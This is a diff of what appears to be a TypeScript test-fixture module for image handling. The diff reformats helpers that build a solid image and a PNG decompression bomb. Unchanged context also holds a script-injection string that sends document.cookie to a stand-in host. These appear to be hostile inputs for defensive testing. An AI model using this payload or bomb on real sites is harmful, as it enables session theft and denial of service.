@@ -16,7 +16,8 @@ export function snapshot(width = 400, height = 200): Promise<Buffer> {
     .toBuffer()
 }
 
-export const plain = (width: number, height: number, colour = '#336699') => sharp({ create: { width, height, channels: 3, background: colour } })
+export const plain = (width: number, height: number, colour = '#336699') =>
+  sharp({ create: { width, height, channels: 3, background: colour } })
 
 /** Noise, which no encoder makes small. */
 export function noise(width: number, height: number): Sharp {
@@ -43,7 +44,12 @@ export function bomb(width: number, height: number): Buffer {
   head.writeUInt32BE(height, 4)
   head[8] = 1
   const rows = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height), { level: 1 })
-  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))])
+  return Buffer.concat([
+    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
+    chunk('IHDR', head),
+    chunk('IDAT', rows),
+    chunk('IEND', Buffer.alloc(0)),
+  ])
 }
 
 export const script = '<script>fetch("https://elsewhere.example/"+document.cookie)</script>'
